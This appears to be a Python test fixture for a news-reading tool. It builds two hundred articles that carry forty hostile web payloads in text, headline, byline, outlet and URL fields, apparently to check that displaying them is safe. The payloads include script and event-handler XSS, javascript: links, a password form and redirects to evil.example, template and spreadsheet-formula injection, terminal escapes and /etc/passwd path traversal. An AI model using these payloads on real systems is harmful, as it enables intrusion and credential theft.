"""Two hundred articles that attack whoever shows them: forty payloads, each in five places.

The payloads are a table of our own, a row for each class of attack. ``__hacked`` is what a script would set.
"""

from __future__ import annotations

from dataclasses import replace

from sayso.records import Figure, Reading
from tests.comparing.made import reading, span_of, with_actors, with_statements

HACK = "window.__hacked=1"
PAYLOADS = {
    "script": f"<script>{HACK}</script>",
    "script in capitals": f"<ScRiPt>{HACK}</sCrIpT>",
    "script that closes a script": f"</script><script>{HACK}</script>",
    "script after a title": f"</title><script>{HACK}</script>",
    "script after a text field": f"</textarea><script>{HACK}</script>",
    "script in a style": f"</style><script>{HACK}</script>",
    "module": f"<script type=module>{HACK}</script>",
    "image that fails": f"<img src=x onerror={HACK}>",
    "image in quotes": f'"><img src=x onerror="{HACK}">',
    "image in single quotes": f"'><img src=x onerror='{HACK}'>",
    "attribute": f'" onmouseover="{HACK}" x="',
    "attribute in single quotes": f"' onfocus='{HACK}' autofocus='",
    "attribute without quotes": f" onclick={HACK} ",
    "drawing": f"<svg onload={HACK}>",
    "drawing with a script": f"<svg><script>{HACK}</script></svg>",
    "drawing with a link": f'<svg><a xlink:href="javascript:{HACK}"><text>x</text></a></svg>',
    "animation": f'<svg><animate onbegin="{HACK}" attributeName="x" dur="1s"></svg>',
    "formula": f'<math><mtext><mglyph><style><img src=x onerror="{HACK}"></style></mglyph></mtext></math>',
    "link": f'<a href="javascript:{HACK}">read on</a>',
    "link with a tab": f'<a href="java\tscript:{HACK}">read on</a>',
    "data link": "<a href='data:text/html,<script>window.__hacked=1</script>'>x</a>",
    "frame": f'<iframe srcdoc="<script>parent.__hacked=1</script>" src="javascript:{HACK}"></iframe>',
    "object": f'<object data="javascript:{HACK}"></object><embed src="javascript:{HACK}">',
    "form": '<form action="https://evil.example"><input name=password autofocus></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>body{display:none}@import 'https://evil.example/x.css'</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    "comment": f"<!-- --><script>{HACK}</script><!--",
    "section": f"<![CDATA[<script>{HACK}</script>]]>",
    "entities": f"&lt;script&gt;{HACK}&lt;/script&gt;&#60;script&#62;{HACK}&#60;/script&#62;",
    "entity bomb": "&amp;" * 300 + "&nbsp;&zwj;&#0;&#xD800;&#x110000;",
    "template": "{{ 7*7 }}{% for x in ().__class__.__subclasses__() %}x{% endfor %}${7*7}#{7*7}<%= 7 %>",
    "spreadsheet formula": "=HYPERLINK(\"https://evil.example\",\"x\") @SUM(1+1) +1 -1 |calc",
    "right to left": "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200f\u200e \u061c",
    "control characters": "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[2J\x1b]0;x\x07\x7f\x85\x9b31m\u2028\u2029",
    "huge word": "W" * 20_000,
    "piled marks": "Z" + "\u0336\u0489\u034f" * 400,
    "deep nesting": "<div>" * 2_000 + "<b><i><u>" * 300,
    "path": "../../../../etc/passwd %2e%2e%2f %00 %0d%0aSet-Cookie: x=1",
}  # fmt: skip
PLACES = ("text", "headline", "byline", "outlet", "url")


def readings() -> list[Reading]:
    """The two hundred; each says of itself which it is."""
    return [_reading(payload, place, at) for at, (payload, place) in enumerate(cases())]


def cases() -> list[tuple[str, str]]:
    """Payload and place of each."""
    return [(payload, place) for place in PLACES for payload in PAYLOADS]


def _reading(payload: str, place: str, number: int) -> Reading:
    words = PAYLOADS[payload]
    said = f"{words} and then two boats sank" if place == "text" else "two boats sank off Maro"
    name = f"Edda {words[:200]}" if place == "text" else "Edda Lund"
    text = f"{name} said on Monday that {said}. {number} men were killed, she said.\n\n{said[:400]}\n"
    url = f"https://quay.example/{number}"
    made = reading(
        text,
        headline=words if place == "headline" else f"Boats lost {number}",
        bylines=(words,) if place == "byline" else ("Ivo Brandt",),
        outlet=words[:2_000] if place == "outlet" else f"Quay {number % 7}",
        url=f"javascript:{HACK}//{words[:300]}" if place == "url" else url,
        published=f"2026-03-{number % 28 + 1:02}",
        language="en",
    )
    made = with_actors(made, (name, "person", {"roles": (words[:300],)} if place == "text" else {}))
    made = with_statements(
        made,
        {"content": [said], "cue": ["said"], "source": [name], "speakers": ("a1",),
         "identification": "named", "where": words[:100]},
    )  # fmt: skip
    figure = Figure(
        "f1", span_of(text, f"{number} men"), number, number, unit="men", measure="killed", of=("a1",),
        where=words[:200], statement="s1",
    )  # fmt: skip
    return replace(made, figures=(figure,), warnings=(words[:200],))
